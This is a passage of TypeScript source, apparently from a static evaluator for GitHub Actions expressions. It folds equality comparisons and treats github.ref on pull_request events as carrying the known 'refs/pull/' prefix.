          eq = typeof l.value === 'string' && typeof r.value === 'string' ? l.value.toLowerCase() === r.value.toLowerCase() : l.value === r.value;
        } else {
          // github.ref == 'refs/heads/main' is false on pull_request, whose ref is refs/pull/<n>/merge
          const [ref, other] = refPrefix(node.left, event) !== undefined ? [node.left, r] : [node.right, l];
          const pref = refPrefix(ref, event);
          if (pref !== undefined && other && typeof other.value === 'string' && !other.value.toLowerCase().startsWith(pref)) eq = false;
        }
        if (eq === undefined) return undefined;
        return { value: node.op === '==' ? eq : !eq };
      }
      return undefined;
    }
  }
}

/** The known prefix of `github.ref` for the event (`refs/pull/` on pull_request), when `node` is `github.ref`. */
function refPrefix(node: ExpressionNode, event: string): string | undefined {
  if (event !== 'pull_request') return undefined;
  return node.kind === 'member' && node.object.kind === 'context' && node.object.name === 'github' && node.key === 'ref' ? 'refs/pull/' : undefined;
}
